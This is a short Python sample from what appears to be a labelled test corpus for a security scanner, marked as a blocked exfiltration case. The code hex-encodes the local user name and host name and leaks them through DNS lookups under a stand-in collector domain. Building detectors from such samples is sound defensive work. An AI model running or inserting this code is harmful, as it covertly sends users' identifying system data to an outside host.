# pyguard-corpus: verdict=block category=exfil rules=PG603
# what: splits the user name and fully qualified host name into DNS labels and resolves them under a collector zone one by one
import getpass
import socket

secret = f"{getpass.getuser()}@{socket.getfqdn()}".encode().hex()
labels = [secret[i:i + 60] for i in range(0, len(secret), 60)]
for index, label in enumerate(labels):
    try:
        socket.gethostbyname(".".join([str(index), label, "t.example.org"]))
    except OSError:
        pass
